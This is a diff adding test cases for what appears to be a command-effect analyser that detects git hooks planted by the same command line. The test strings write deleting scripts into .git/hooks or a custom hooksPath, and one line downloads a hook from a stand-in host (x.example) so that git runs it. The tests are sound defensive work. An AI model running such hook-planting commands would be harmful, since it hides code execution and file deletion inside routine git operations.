@@ -232,3 +232,39 @@ describe('copies that are kept', () => {
     test(text, () => expect(lines(text, WORLD)).toContain(expected))
   }
 })
+
+describe('hooks that the call itself put into the repository', () => {
+  for (const [text, expected] of [
+    ["git init -q; printf '#!/bin/sh\\nrm x\\n' > .git/hooks/pre-commit; git commit -qm m", 'delete /repo/x'],
+    ["echo 'rm x' > .git/hooks/pre-commit; git -c user.name=z commit --allow-empty -qm m", 'delete /repo/x'],
+    ["echo 'rm x' > .git/hooks/post-commit; git commit -nqm m", 'delete /repo/x'],
+    ["echo 'rm x' > .git/hooks/post-checkout; cd dir; git switch main", 'delete /repo/x'],
+    ["echo 'rm x' > .git/hooks/post-merge; git pull", 'delete /repo/x'],
+    ["echo 'rm x' > .git/hooks/pre-push; git push", 'delete /repo/x'],
+    ["echo 'rm x' > .git/hooks/reference-transaction; git fetch", 'delete /repo/x'],
+    ["echo 'rm x' > .git/hooks/odd; git hook run odd", 'delete /repo/x'],
+    ["echo 'rm x' > dir/.git/hooks/pre-commit; git -C dir commit -m m", 'delete /repo/dir/x'],
+    ['printf \'#!/usr/bin/env python3\\nimport os; os.remove("x")\' > .git/hooks/pre-commit; git commit -m m', 'delete /repo/x'],
+    ["mkdir hk; echo 'rm x' > hk/pre-commit; git -c core.hooksPath=hk commit -m m", 'delete /repo/x'],
+    ["mkdir dir/hk; echo 'rm x' > dir/hk/pre-commit; git -C dir -c core.hooksPath=hk commit -m m", 'delete /repo/dir/x'],
+    ['echo \'rm "$1"\' > .git/hooks/commit-msg; git commit -m m', 'delete /repo/.git/COMMIT_EDITMSG'],
+    ["echo 'rm x' > h; cp h .git/hooks/pre-commit; git commit -m m", 'delete /repo/x'],
+    ["echo 'rm x' > h; ln -s ../../h .git/hooks/pre-commit; git commit -m m", 'delete /repo/x'],
+    ['curl -o .git/hooks/pre-commit http://x.example/h; git commit -m m', 'execute code:downloaded http://x.example/h'],
+  ] as const) {
+    test(text, () => expect(lines(text, WORLD)).toContain(expected))
+  }
+
+  for (const text of [
+    "echo 'rm x' > .git/hooks/pre-commit; git commit -n -m m",
+    "echo 'rm x' > .git/hooks/pre-commit; git commit --no-verify -m m",
+    "echo 'rm x' > .git/hooks/pre-commit; git log",
+    "echo 'rm x' > .git/hooks/pre-commit.sample; git commit -m m",
+    "echo 'rm x' > .git/hooks/pre-commit; git -C dir/../.. commit -m m",
+    "echo 'rm x' > .git/hooks/pre-commit; git -c core.hooksPath=dir commit -m m",
+    "echo 'rm x' > hooks/pre-commit; git commit -m m",
+    "git commit -m m; echo 'rm x' > .git/hooks/pre-commit",
+  ]) {
+    test(`not: ${text}`, () => expect(lines(text, WORLD).filter((line) => line.includes('delete'))).toEqual([]))
+  }
+})
